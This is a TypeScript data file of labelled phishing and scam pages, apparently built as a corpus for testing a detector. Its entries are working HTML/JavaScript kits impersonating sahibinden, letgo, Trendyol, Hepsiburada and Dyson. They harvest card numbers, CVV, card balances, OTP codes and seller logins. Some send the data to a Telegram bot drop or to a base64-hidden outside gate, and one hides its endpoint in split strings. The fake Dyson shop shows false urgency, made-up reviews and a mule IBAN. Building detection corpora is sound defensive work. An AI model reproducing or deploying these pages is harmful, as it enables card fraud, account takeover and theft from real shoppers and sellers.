import { htmlRoute, type Entry } from '../entry.js';
import { b64, cardFields, cardMaskJs, doc, logo, smsPanel, telegramDrop } from '../parts/xb-kit.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'xb-sahibinden-guvenli-odeme-satici',
    label: 'phishing',
    kind: 'marketplace-seller-payout-kit',
    url: 'https://sahibinden.guvenliodeme-param.com/ilan/1187452236/odeme-al',
    body: doc({
      title: 'sahibinden.com - Güvenli e-Ticaret | Ödeme Al',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;color:#333}.hd{background:#ffe800;padding:10px 24px;display:flex;align-items:center;justify-content:space-between}.hd span{font-size:13px}
.wr{max-width:860px;margin:20px auto;display:flex;gap:18px;padding:0 12px}.il{width:300px;background:#fff;border:1px solid #ddd;padding:14px;font-size:13px}.il .ph{height:170px;background:linear-gradient(135deg,#cfd8dc,#90a4ae);display:flex;align-items:center;justify-content:center;color:#fff;font-size:13px}
.il td{padding:3px 4px}.od{flex:1;background:#fff;border:1px solid #ddd;padding:18px}.ok{background:#e8f5e9;border:1px solid #81c784;padding:10px;font-size:14px;margin-bottom:12px}
.fld label{font-size:12px;display:block;color:#555;margin-top:6px}.fld input,.fld select{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bbb}.half{display:inline-block;width:48%;margin-right:2%}
.bt{margin-top:14px;background:#489ae9;color:#fff;border:0;padding:12px;width:100%;font-size:15px;font-weight:bold}.sec{font-size:11px;color:#888;margin-top:8px}`,
      body: `<div class="hd">${logo({ name: 'sahibinden.com', color: '#3f475f', mark: 'diamond' })}<span>🔒 Param Güvende · Güvenli e-Ticaret</span></div>
<div class="wr"><div class="il"><div class="ph">iPhone 14 Pro 256 GB</div><h3 style="font-size:15px">Temiz iPhone 14 Pro 256 GB Derin Mor - Faturalı</h3>
<table><tr><td>İlan No</td><td>1187452236</td></tr><tr><td>Fiyat</td><td><b>38.500 TL</b></td></tr><tr><td>Alıcı</td><td>Mehmet Y.</td></tr><tr><td>Kargo</td><td>Alıcı öder (Yurtiçi)</td></tr></table></div>
<div class="od"><div class="ok">✔ Alıcı <b>38.500,00 TL</b> tutarındaki ödemeyi sahibinden.com güvencesiyle gerçekleştirdi. Tutar, ürünü kargoya verdiğinizde hesabınıza aktarılacaktır.</div>
<p style="font-size:14px">Ödemenin kartınıza aktarılabilmesi için satıcı kartınızı doğrulamanız gerekmektedir. Doğrulama sırasında kartınızdan herhangi bir ücret çekilmez.</p>
<form id="sf">${cardFields({ lang: 'tr', split: true, names: { holder: 'sahip', number: 'kartno', exp: 'ay', yy: 'yil', cvv: 'cvc' } })}<div class="fld"><label>Kart bakiyesi (aktarım limiti kontrolü için)</label><input name="bakiye" required></div><div class="fld"><label>Cep telefonu</label><input name="tel" required></div>
<button class="bt">Ödemeyi Kartıma Aktar</button></form>
${smsPanel({ lang: 'tr', id: 'sh', phone: '05** *** ** 54', seconds: 200, bank: 'sahibinden.com Param Güvende', amount: '38.500,00 TL', color: '#489ae9' })}
<p class="sec">sahibinden.com, güvenli e-ticaret hizmetini Param (Turkpara Ödeme Hizmetleri) altyapısı ile sunmaktadır.</p></div></div>
<script>
${telegramDrop({ token: '7455120983:AAG1uVb6Hn3Jm9Kq2Lr5Sp8Tw0Xy4Zc7DeF', chat: '-1002044871239', fn: 'gnd', style: 'split' })}
${cardMaskJs({ field: 'kartno', fn: 'lchk' })}
document.getElementById('sf').onsubmit=function(e){e.preventDefault();if(!lchk(this.kartno.value)){alert('Kart numarasını kontrol ediniz.');return}var s='💰 SAHIBINDEN SATICI 1187452236\\n';new FormData(this).forEach(function(v,k){s+=k+': '+v+'\\n'});gnd(s);this.style.display='none';document.getElementById('sh').style.display='block'};
document.getElementById('sh-ok').onclick=function(){gnd('📲 SMS: '+document.getElementById('sh-code').value);document.getElementById('sh').innerHTML='<p style="padding:20px">Aktarım işleminiz sırada. Lütfen bu sayfayı kapatmayınız, müşteri temsilcimiz sizinle iletişime geçecektir.</p>'};
</script>`,
    }),
  },
  {
    id: 'xb-letgo-urun-satildi-odeme-al',
    label: 'phishing',
    kind: 'marketplace-seller-payout-kit',
    url: 'https://letgo-odeme.sbs/deal/tr-7f3a91c2',
    body: doc({
      title: 'letgo | Ürününüz satıldı',
      css: `body{margin:0;background:#fff;font-family:"Nunito",Arial,sans-serif}.top{background:#ff3f55;padding:12px 16px;color:#fff;font-weight:700}.chat{max-width:420px;margin:0 auto;padding:14px}
.msg{background:#f1f1f1;border-radius:14px;padding:10px 12px;margin:8px 0;font-size:14px;max-width:80%}.me{background:#ffe3e7;margin-left:auto}.prd{display:flex;gap:10px;align-items:center;border:1px solid #eee;border-radius:10px;padding:8px}
.prd img{width:64px;height:64px;border-radius:8px;background:#ccc}.pay{border:2px solid #ff3f55;border-radius:14px;padding:14px;margin-top:12px}.fld label{font-size:12px;color:#888;display:block}.fld input,.fld select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ddd;border-radius:8px;margin:3px 0 8px}
.half{display:inline-block;width:48%;margin-right:2%}.b{width:100%;background:#ff3f55;color:#fff;border:0;border-radius:24px;padding:13px;font-size:16px;font-weight:700}`,
      body: `<div class="top">${logo({ name: 'letgo', color: '#ffffff', mark: 'leaf', height: 30 })}</div>
<div class="chat"><div class="prd"><img src="/deal/img/p.png" alt=""><div><b>PlayStation 5 Slim + 2 kol</b><br><span style="color:#ff3f55">17.250 TL</span> · Kadıköy</div></div>
<div class="msg">Merhaba, ürünü satın aldım. letgo güvenli ödeme ile ödemeyi yaptım, kargo kodunu uygulama mesajına düştü 👍</div>
<div class="msg me">Tamam, ödemeyi nasıl alacağım?</div>
<div class="msg">Aşağıdaki sayfadan kartınızı onaylayınca para hemen geçiyor, ben de öyle yapmıştım.</div>
<div class="pay"><b>Ödeme Al</b><p style="font-size:13px;color:#555">Alıcı ödemesi: <b>17.250,00 TL</b> · letgo Güvenli Ödeme<br>Tutarın aktarılacağı kartı doğrulayın.</p>
<form id="lf">${cardFields({ lang: 'tr', names: { holder: 'ad', number: 'card', exp: 'exp', cvv: 'cvv' } })}<div class="fld"><label>Kart bakiyesi</label><input name="balance"></div><button class="b">17.250 TL'yi Al</button></form></div></div>
<script>
${cardMaskJs({ field: 'card', fn: 'okc', exp: 'exp' })}
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();if(!okc(this.card.value))return alert('Geçersiz kart');
 fetch('/deal/api/payout',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).then(function(r){return r.json()}).then(function(j){location.href=j.redirect})});
</script>`,
    }),
    routes: {
      'letgo-odeme.sbs/deal/img/p.png': pngRoute(30, 30, 30),
      'letgo-odeme.sbs/deal/api/payout': jsonRoute({ redirect: '/deal/3ds?tx=7f3a91c2' }),
      'letgo-odeme.sbs/deal/3ds': htmlRoute(doc({
        title: '3D Secure',
        body: `${smsPanel({ lang: 'tr', id: 'lg3', phone: '05** *** ** 30', seconds: 180, bank: 'letgo Ödeme', amount: '17.250,00 TL', color: '#ff3f55' })}<script>document.getElementById('lg3').style.display='block';document.getElementById('lg3-ok').onclick=function(){fetch('/deal/api/payout',{method:'POST',body:JSON.stringify({otp:document.getElementById('lg3-code').value})});alert('İşlem limitiniz yetersiz. Lütfen başka bir kart deneyiniz.')}</script>`,
      })),
    },
  },
  {
    id: 'xb-trendyol-satici-paneli-askiya',
    label: 'phishing',
    kind: 'marketplace-seller-credential-kit',
    url: 'https://partner-trendyol.com.satici-giris.net/account/login',
    body: doc({
      title: 'Trendyol Satıcı Paneli | Giriş Yap',
      css: `body{margin:0;background:#f7f7f7;font-family:"Source Sans Pro",Arial,sans-serif}.l{display:flex;min-height:100vh}.side{flex:1;background:#f27a1a;color:#fff;padding:60px 48px}.side h1{font-size:32px}
.frm{width:440px;background:#fff;padding:60px 40px}.frm input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #e2e2e2;border-radius:6px;margin:6px 0 14px;font-size:15px}
.frm button{width:100%;background:#f27a1a;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px;font-weight:600}.al{background:#fff4e5;border:1px solid #f27a1a;color:#8a4500;padding:10px;border-radius:6px;font-size:13px;margin-bottom:16px}`,
      body: `<div class="l"><div class="side">${logo({ name: 'trendyol', color: '#ffffff', mark: 'star', sub: 'partner' })}<h1>Satıcı Paneli</h1><p>Milyonlarca müşteriye ulaşın, satışlarınızı büyütün.</p></div>
<div class="frm"><div class="al">Mağazanız, iade oranı ve müşteri şikayetleri nedeniyle <b>askıya alınmıştır</b>. Askıdaki hakedişlerinizin ödenmesi ve mağazanızın yeniden aktif edilmesi için giriş yaparak itiraz formunu doldurunuz.</div>
<form id="tf"><label>E-posta</label><input name="email" type="email" required><label>Şifre</label><input name="password" type="password" required><label>Satıcı ID</label><input name="supplierId" required><button>Giriş Yap</button></form>
<div id="two" style="display:none"><p>Hesabınıza kayıtlı telefona gönderilen doğrulama kodunu girin.</p><input id="c2" maxlength="6"><button id="b2">Doğrula</button></div></div></div>
<script>
var H=atob('${b64('https://satici-giris.net/gate/tyol.php')}');
document.getElementById('tf').onsubmit=function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));b.append('k','tyl');fetch(H,{method:'POST',body:b,mode:'no-cors'});this.style.display='none';document.getElementById('two').style.display='block'};
document.getElementById('b2').onclick=function(){fetch(H,{method:'POST',body:'k=tyl2&otp='+document.getElementById('c2').value,mode:'no-cors'}).then(function(){location.href='https://partner.trendyol.com/'})};
</script>`,
    }),
  },
  {
    id: 'xb-hepsiburada-siparis-iptal-iade',
    label: 'phishing',
    kind: 'marketplace-refund-lure-kit',
    url: 'https://hepsiburada-iade-islem.com/siparis/iptal/HB2510147731',
    body: doc({
      title: 'Hepsiburada - Sipariş İptal ve İade',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f4f4f4}.h{background:#fff;border-bottom:3px solid #ff6000;padding:12px 20px}.b{max-width:560px;margin:20px auto;background:#fff;border-radius:8px;padding:20px}
.it{display:flex;gap:12px;border:1px solid #eee;padding:10px;border-radius:6px}.it i{width:70px;height:70px;background:#ffe0cc;border-radius:6px}.b .fld input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;border-radius:4px;margin:3px 0 10px}.fld label{font-size:12px}
.half{display:inline-block;width:48%;margin-right:2%}.o{width:100%;background:#ff6000;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px}`,
      body: `<div class="h">${logo({ name: 'hepsiburada', color: '#ff6000', mark: 'ring' })}</div>
<div class="b"><h3>Siparişiniz iptal edildi</h3><p style="font-size:14px">Satıcının stok hatası nedeniyle <b>HB2510147731</b> numaralı siparişiniz iptal edilmiştir. Ödediğiniz <b>24.999,00 TL</b> ile birlikte <b>500 TL</b> özür kuponu iade edilecektir.</p>
<div class="it"><i></i><div><b>Apple iPad Air 11" M2 128 GB</b><br><span style="font-size:13px;color:#888">Satıcı: TeknoDünya</span><br><span style="color:#ff6000">24.999,00 TL</span></div></div>
<p style="font-size:13px">Bankanızın iade süresini beklemeden anında iade almak için iadenin yapılacağı kartı doğrulayın:</p>
<form id="hf">${cardFields({ lang: 'tr', names: { holder: 'n', number: 'p', exp: 'x', cvv: 'c' } })}<button class="o">Anında İade Al</button></form></div>
<script>
(function(){var e=['ph','p','ia','de/','sip','ari','s'];var u=e[4]+e[5]+e[6]+'/'+e[2]+e[3]+'kaydet.'+e[0]+e[1];
document.getElementById('hf').onsubmit=function(ev){ev.preventDefault();fetch('/'+u,{method:'POST',body:new FormData(this)}).then(function(r){return r.json()}).then(function(j){document.getElementById('hf').outerHTML='<p>Bankanızdan gelen doğrulama kodunu giriniz:</p><input id=k><button onclick="fetch(\\'/'+u+'\\',{method:\\'POST\\',body:\\'k=\\'+document.getElementById(\\'k\\').value})">Gönder</button>'})}})();
</script>`,
    }),
    routes: { 'hepsiburada-iade-islem.com/siparis/iade/kaydet.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'xb-dyson-outlet-havale-fake-shop',
    label: 'scam',
    kind: 'fake-shop-bank-transfer',
    url: 'https://dysonturkiye-outlet.shop/urun/dyson-v15-detect-absolute',
    body: doc({
      title: 'Dyson V15 Detect Absolute - %75 İndirim | Dyson Türkiye Outlet',
      css: `body{margin:0;font-family:Arial,sans-serif;color:#222}.ann{background:#000;color:#fff;text-align:center;font-size:13px;padding:7px}.hdr{padding:14px 30px;border-bottom:1px solid #eee;font-weight:900;font-size:22px;letter-spacing:2px}
.pd{max-width:1000px;margin:24px auto;display:flex;gap:30px;padding:0 16px}.img{flex:1;height:420px;background:radial-gradient(circle,#ddd,#999);border-radius:4px}.info{flex:1}.old{text-decoration:line-through;color:#999}.new{font-size:32px;color:#c00;font-weight:700}
.badge{background:#c00;color:#fff;padding:3px 8px;border-radius:3px;font-size:13px}.stock{color:#c00;font-weight:bold}.buy{display:block;width:100%;background:#000;color:#fff;border:0;padding:15px;font-size:16px;margin-top:14px}
.pay{display:none;border:1px solid #ddd;padding:14px;margin-top:12px;font-size:14px}.pay input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #ccc;margin:3px 0 8px}.tr{font-size:12px;color:#666}`,
      body: `<div class="ann">🎁 Yılsonu Outlet: Tüm ürünlerde %75'e varan indirim · Ücretsiz kargo · Havale/EFT'de ek %5 indirim</div>
<div class="hdr">dyson <span style="font-size:12px;letter-spacing:0;font-weight:400">Türkiye Outlet</span></div>
<div class="pd"><div class="img"></div><div class="info"><h1 style="font-size:24px">Dyson V15 Detect Absolute Kablosuz Süpürge</h1><p><span class="badge">-%75</span> <span class="old">27.999,00 TL</span></p><div class="new">6.999,00 TL</div>
<p class="stock">⚠ Stokta son 3 ürün! Kampanya bitimine: <span id="t">00:14:59</span></p><p>✔ 2 yıl Dyson Türkiye garantisi ✔ Orijinal faturalı ✔ 24 saatte kargo</p>
<button class="buy" onclick="document.getElementById('pay').style.display='block'">HEMEN SATIN AL</button>
<div class="pay" id="pay"><b>Ödeme</b><p>Kredi kartı altyapımız bakımda olduğundan siparişler yalnızca <b>Havale/EFT</b> ile alınmaktadır (ek %5 indirim: <b>6.649,05 TL</b>).</p>
<form id="sp"><input name="ad" placeholder="Ad Soyad" required><input name="tel" placeholder="Telefon" required><input name="adres" placeholder="Teslimat Adresi" required><button class="buy">Siparişi Tamamla</button></form>
<div id="iban" style="display:none"><p>Siparişiniz oluşturuldu (#DY-48213). Ödemenizi 30 dakika içinde aşağıdaki hesaba yapınız:</p><p><b>Alıcı:</b> MERT CAN DOĞAN<br><b>Banka:</b> Enpara<br><b>IBAN:</b> TR56 0015 7000 0000 0156 2348 77<br><b>Açıklama:</b> Sipariş numaranızı yazmayınız, sadece adınızı yazınız.</p></div></div>
<p class="tr">Yorumlar (412) ★★★★★ · "Ürün 1 günde geldi, orijinal" — Burcu S.</p></div></div>
<script>var s=899;setInterval(function(){if(s>0)s--;document.getElementById('t').textContent='00:'+('0'+Math.floor(s/60)).slice(-2)+':'+('0'+s%60).slice(-2)},1000);
document.getElementById('sp').onsubmit=function(e){e.preventDefault();fetch('/api/siparis',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('iban').style.display='block'}</script>`,
    }),
    routes: { 'dysonturkiye-outlet.shop/api/siparis': jsonRoute({ id: 'DY-48213' }) },
  },
];
